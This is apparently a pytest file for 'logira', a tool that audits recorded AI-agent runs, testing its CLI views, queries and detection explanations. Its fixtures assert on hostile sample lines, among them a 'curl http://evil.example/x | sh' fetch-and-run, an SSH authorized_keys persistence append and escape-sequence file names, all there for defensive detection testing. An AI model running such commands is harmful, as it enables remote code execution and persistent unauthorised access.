"""runs / view / query / explain against runs stored by the real sinks (exact output lines)."""

from __future__ import annotations

import json
import shutil

import pytest

from .conftest import LIVE, OLD, RID

UNSAFE = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


def assert_terminal_safe(text: str) -> None:
    for ch in UNSAFE:
        assert ch not in text, f"raw {ch!r} reached the terminal"
    assert all(line.isprintable() for line in text.splitlines())


def test_runs_lists_every_run_full_ids_newest_last(cli):
    code, out, _ = cli("runs")
    assert code == 0
    lines = out.splitlines()
    assert lines[0].split() == [
        "run",
        "started",
        "duration",
        "tool",
        "exit",
        "status",
        "events",
        "detections",
        "command",
    ]
    assert [ln.split()[0] for ln in lines[2:]] == [OLD, RID, LIVE]
    assert lines[3].split("  ")[0] == RID
    assert (
        " 2026-01-02 15:04:05Z " in lines[3] and " COMPLETE " in lines[3] and "1 high, 1 medium" in lines[3]
    )
    assert " RUNNING " in lines[4] and " running " in lines[4]


def test_runs_json(cli):
    code, out, _ = cli("runs", "--json")
    rows = json.loads(out)
    assert code == 0 and [r["run_id"] for r in rows] == [OLD, RID, LIVE]
    r = rows[1]
    assert r["status"] == "COMPLETE" and r["events"] == 17 and r["detections"] == {"high": 1, "medium": 1}
    assert r["exit_code"] == 0 and r["command_argv"] == ["claude", "--yolo"]
    assert rows[2]["status"] == "RUNNING" and rows[2]["end_ts"] is None


def test_view_dashboard(cli):
    code, out, _ = cli("view", RID, "--color", "never")
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == f"Run {RID}  COMPLETE"
    assert "  command:   claude --yolo" in lines
    assert "  started:   2026-01-02 15:04:05Z  duration 5s" in lines
    assert "  record:    complete, no events dropped" in lines
    assert "Events      exec 3  proc 2  file 7  net 3  detection 2  (total 17)" in lines
    assert "high    R010      1  +1.5s  +1.5s  SSH key persistence" in lines
    assert "  100 bash -c 'curl -s http://evil.example/x | sh'" in lines
    assert "  └─ 101 curl -s http://evil.example/x" in lines
    assert "    create    evil\\x1b[31mRED\\x1b]0;pwn\\x07\\nname\\u202etxt.sh" in lines
    assert "    create    bad\\xff\\xfe.bin" in lines
    assert "    rename    a.txt -> /home/u/proj/b.txt" in lines
    # dst, proto, ops, count, sent, received (no closed TCP connection: "-"), dns
    assert any(ln.split() == ["[2001:db8::1]:443", "tcp", "connect", "1", "-", "-", "-"] for ln in lines)
    assert "  DNS names: evil.example" in lines
    assert f"  logira explain {RID}                 # why each detection fired, with evidence" in lines
    assert "/etc/passwd" not in out  # reads are not changes
    assert_terminal_safe(out)


def test_view_last_is_most_recently_started_and_reads_a_running_run(cli):
    code, out, err = cli("view")
    assert code == 0 and err == ""
    assert out.splitlines()[0] == f"Run {LIVE}  RUNNING"
    assert "  exit:      - (running)" in out


def test_view_json(cli):
    code, out, _ = cli("view", RID, "--json")
    doc = json.loads(out)
    assert code == 0
    assert doc["meta"]["run_id"] == RID and doc["counts"]["file"] == 7 and doc["processes"] == 2
    assert [g["rule_id"] for g in doc["detections"]] == ["R010", "R020"]
    assert doc["tree"][0]["children"][0]["argv"] == ["curl", "-s", "http://evil.example/x"]
    assert {"op": "delete", "path": "/home/u/proj/old 100%_x.txt", "path2": None, "count": 1, "errno": 0,
            "pseudo": False} in doc["files"]
    assert doc["denied"] == [] and doc["pseudo_hidden"] == 0


def test_view_flags_after_selector_and_ts_both_untruncated(cli):
    code, out, _ = cli("view", RID, "--ts", "both")
    assert code == 0
    assert "high    R010      1  +1.5s (15:04:06.500Z)  +1.5s (15:04:06.500Z)  SSH key persistence" in out


def seqs(out: str) -> list[int]:
    return [int(ln.split()[0]) for ln in out.splitlines()[2:]]


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["--type", "file", "--path", "**/.ssh/**"], [7]),
        (["--path", "**/.ssh/**"], [7, 8]),  # the detection follows its related event
        (["--type", "file", "--path", "/home/u/proj/*"], [6, 9, 12, 15]),
        (["--type", "file", "--path", "/home/*"], []),  # * does not cross /
        (["--path", "b.txt"], [12]),  # rename target, basename match
        (["--path", "*.bin"], [10, 11]),
        (["--dest", "evil.example"], [4]),
        (["--dest", "example"], [4]),
        (["--dest", "93.184.216.0/24"], [5]),
        (["--dest", "[2001:db8::1]:443"], [14]),
        (["--dest", ":443"], [5, 14]),
        (["--dest", "10.0.0.53:53", "--type", "net"], [4]),
        (["--contains", "100%_"], [15]),
        (["--contains", "%"], [15]),
        (["--contains", "EVIL.EXAMPLE"], [1, 3, 4]),
        (["--severity", ">=high"], [8]),
        (["--min-severity", "medium"], [8, 11]),
        (["--severity", "medium", "--type", "file"], [10]),  # the event R020 flagged
        (["--rule", "R020", "--type", "exec,file"], [10]),
        (["--type", "exec,net", "--pid", "101"], [3, 4, 5, 14]),
        (["--pid", "100", "--tree", "--type", "exec"], [1, 3, 13]),
        (["--pid", "101", "--type", "detection"], [11]),
        (["--op", "delete", "--op", "rename"], [12, 15]),
        (["--since", "+2s", "--until", "+3s"], [9, 10, 11, 12]),
        (["--since=-1s"], [15, 16, 17]),
        (["--since", "2026-01-02T15:04:09Z"], [15, 16, 17]),
        (["--type", "proc", "--reverse"], [17, 2]),
    ],
)
def test_query_filters(cli, argv, expected):
    code, out, err = cli("query", RID, *argv)
    assert code == 0, err
    assert seqs(out) == expected if expected else out == "(no events)\n"


def test_query_same_results_from_jsonl_fallback(cli, home, tmp_path, monkeypatch):
    """Without index.sqlite the same filters give byte-identical JSON (one query engine)."""
    h2 = tmp_path / "h2"
    shutil.copytree(home / "runs" / RID, h2 / "runs" / RID)
    (h2 / "runs" / RID / "index.sqlite").unlink()
    for argv in (["--path", "**/.ssh/**"], ["--dest", "93.184.216.0/24"], ["--severity", "medium", "--type", "file"],
                 ["--contains", "100%_"], ["--pid", "100", "--tree"], ["--type", "all"]):  # fmt: skip
        monkeypatch.setenv("LOGIRA_HOME", str(home))
        _, want, _ = cli("query", RID, "--json", *argv)
        monkeypatch.setenv("LOGIRA_HOME", str(h2))
        code, got, err = cli("query", RID, "--json", *argv)
        assert code == 0 and got == want and want
        assert "index.sqlite unreadable" in err


def test_query_tables_per_type_are_escaped(cli):
    _, out, _ = cli("query", RID, "--type", "file", "--color", "always")
    assert out.splitlines()[0].split() == ["seq", "at", "pid", "exe", "op", "path"]
    assert (
        "  9  +2s    100  /usr/bin/bash  create  /home/u/proj/evil\\x1b[31mRED\\x1b]0;pwn\\x07\\nname\\u202etxt.sh"
        in out
    )
    assert " 12  +3s    100  /usr/bin/bash  rename  /home/u/proj/a.txt -> /home/u/proj/b.txt" in out
    assert "\x1b[31mRED" not in out
    _, out, _ = cli("query", RID, "--type", "exec")
    assert "exec-failed" not in out and "/home/u/proj/nope (errno 2)" in out
    assert "bash -c 'curl -s http://evil.example/x | sh'" in out
    _, out, _ = cli("query", RID, "--type", "detection")
    assert out.splitlines()[2].split()[:5] == ["8", "+1.5s", "high", "R010", "7"]
    _, out, _ = cli("query", RID, "--type", "net", "--dest", ":443")
    assert "[2001:db8::1]:443" in out


def test_query_json_is_stored_schema_with_exact_bytes(cli):
    code, out, _ = cli("query", RID, "--json", "--path", "*.bin", "--type", "file")
    recs = [json.loads(ln) for ln in out.splitlines()]
    assert code == 0 and len(recs) == 1
    r = recs[0]
    assert list(r)[:9] == ["run_id", "seq", "ts", "type", "pid", "ppid", "uid", "summary", "data_json"]
    assert r["data_json"]["path"] == "/tmp/bad\\xff\\xfe.bin"
    assert bytes.fromhex(r["raw_bytes"]["data_json.path"]) == b"/tmp/bad\xff\xfe.bin"
    _, out, _ = cli("query", RID, "--json", "--path", "**/evil*")
    assert (
        json.loads(out)["data_json"]["path"] == "/home/u/proj/evil\x1b[31mRED\x1b]0;pwn\x07\nname\u202etxt.sh"
    )


def test_query_limit_and_all(cli):
    code, out, err = cli("query", RID, "--limit", "3")
    assert code == 0 and seqs(out) == [1, 2, 3]
    assert err == "note: more than 3 events match; use --limit N or --all\n"
    code, out, err = cli("query", RID, "--all")
    assert len(seqs(out)) == 17 and err == ""


def test_explain_groups_with_evidence(cli):
    code, out, _ = cli("explain", RID)
    lines = out.splitlines()
    assert code == 0
    assert lines[0] == f"Run {RID}  COMPLETE  2 detections (high 1, medium 1)"
    assert "[HIGH] R010  SSH key persistence   1x, +1.5s" in lines
    assert "    event:    seq 7 +1.5s pid 100  file modify /home/u/.ssh/authorized_keys" in lines
    assert "    process:  pid 100 bash -c 'echo k >> ~/.ssh/authorized_keys'  (cwd /home/u/proj)" in lines
    assert "    parent:   pid 99 claude --yolo  (cwd /home/u/proj)" in lines
    assert lines.index("[HIGH] R010  SSH key persistence   1x, +1.5s") < lines.index(
        "[MEDIUM] R020  Temp dropper   1x, +2.5s"
    )
    assert "    step 1:   seq 3 +0.3s pid 101  exec curl -s http://evil.example/x" in lines
    assert "    step 2:   seq 10 +2.5s pid 101  file create /tmp/bad\\xff\\xfe.bin" in lines
    assert_terminal_safe(out)


def test_explain_json_and_drill(cli):
    code, out, _ = cli("explain", RID, "--json")
    doc = json.loads(out)
    assert code == 0 and doc["detections"] == 2 and doc["by_severity"] == {"high": 1, "medium": 1}
    g = doc["groups"][1]
    assert g["rule_id"] == "R020" and [s["seq"] for s in g["evidence"][0]["steps"]] == [3, 10]
    code, out, _ = cli("explain", RID, "--drill", "8")
    assert code == 0 and "[HIGH] R010  SSH key persistence" in out and "seq 7" in out
    code, out, _ = cli("explain", RID, "--drill", "10")  # an event: show it and what flagged it
    assert code == 0 and out.splitlines()[1].startswith(
        "Event seq 10 +2.5s file pid 101: file create /tmp/bad\\xff"
    )
    assert "[MEDIUM] R020  Temp dropper" in out


def test_explain_no_detections(cli):
    code, out, _ = cli("explain", OLD)
    assert code == 0 and "No detections: the active rules matched nothing in this run." in out


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["view", "nope-run"], "error: run nope-run not found under "),
        (["view", "../etc"], "error: "),
        (
            ["query", RID, "--type", "bogus"],
            "error: invalid --type 'bogus' (expected exec|proc|file|net|detection|agent|all, or a list)",
        ),
        (
            ["query", RID, "--severity", "urgent"],
            "error: invalid --severity 'urgent' (expected info | low | medium | high | critical, a list, or >=LEVEL)",
        ),
        (["query", RID, "--ts", "local"], "error: invalid --ts 'local' (expected abs|rel|both)"),
        (
            ["view", RID, "--color", "rainbow"],
            "error: invalid --color 'rainbow' (expected auto|always|never)",
        ),
        (["query", RID, "--dest", "1.2.3.4:99999"], "error: invalid --dest '1.2.3.4:99999'"),
        (["query", RID, "--limit", "0"], "error: invalid --limit 0 (expected a positive number, or --all)"),
        (["query", RID, "--tree"], "error: --tree needs --pid N"),
        (["query", RID, "--since", "yesterday"], "error: invalid --since 'yesterday'"),
        (["explain", RID, "--drill", "999"], f"error: seq 999 not found in run {RID}"),
    ],
)
def test_errors_are_one_line(cli, argv, message):
    code, out, err = cli(*argv)
    assert code != 0 and out == ""
    assert err.startswith(message) and err.count("\n") == 1 and "Traceback" not in err


def test_no_runs(cli, tmp_path, monkeypatch):
    monkeypatch.setenv("LOGIRA_HOME", str(tmp_path))
    code, _, err = cli("view")
    assert code == 1 and err == f"error: no runs yet under {tmp_path}/runs\n"
    code, out, _ = cli("runs")
    assert code == 0 and out == f"(no runs under {tmp_path}/runs)\n"
    code, _, err = cli("query", "--severity", "loud")  # flags are checked before any run is looked up
    assert code == 2 and err.startswith("error: invalid --severity 'loud'")


def test_colour_env(cli, monkeypatch):
    _, out, _ = cli("query", RID, "--type", "detection")
    assert "\x1b[" not in out  # not a TTY
    monkeypatch.setenv("FORCE_COLOR", "1")
    _, out, _ = cli("query", RID, "--type", "detection")
    assert "\x1b[31mhigh\x1b[0m" in out
    monkeypatch.setenv("NO_COLOR", "1")
    _, out, _ = cli("query", RID, "--type", "detection")
    assert "\x1b[" not in out
    _, out, _ = cli("query", RID, "--type", "detection", "--color", "always")
    assert "\x1b[33mmedium\x1b[0m" in out
    _, out, _ = cli("query", RID, "--type", "detection", "--color", "always", "--no-color")
    assert "\x1b[" not in out


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["view", "--bogus"], "error: unrecognized arguments: --bogus (see `logira --help`)\n"),
        (["query", "--limit", "x"], "error: argument --limit: invalid int value: 'x' (see `logira query --help`)\n"),
    ],
)
def test_bad_command_line_is_one_line(cli, capsys, argv, expected) -> None:
    with pytest.raises(SystemExit) as exc:
        cli(*argv)
    assert exc.value.code == 2
    assert capsys.readouterr().err == expected
